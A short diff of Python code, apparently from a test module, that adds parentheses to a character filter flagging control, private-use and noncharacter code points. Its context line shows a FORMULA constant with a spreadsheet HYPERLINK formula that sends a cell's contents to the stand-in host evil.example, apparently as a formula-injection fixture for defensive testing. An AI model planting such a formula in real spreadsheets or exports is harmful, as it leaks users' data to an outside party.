@@ -34,7 +34,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?d="&C6,"查看说明")'
 
 def _bad(text: str) -> list[str]:
     return [f"U+{ord(c):04X}" for c in text
-            if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Co", "Cs")
+            if (c not in "\n\t" and unicodedata.category(c) in ("Cc", "Co", "Cs"))
             or ord(c) in (0xFEFF, 0xFFFE, 0xFFFF)]
 
 
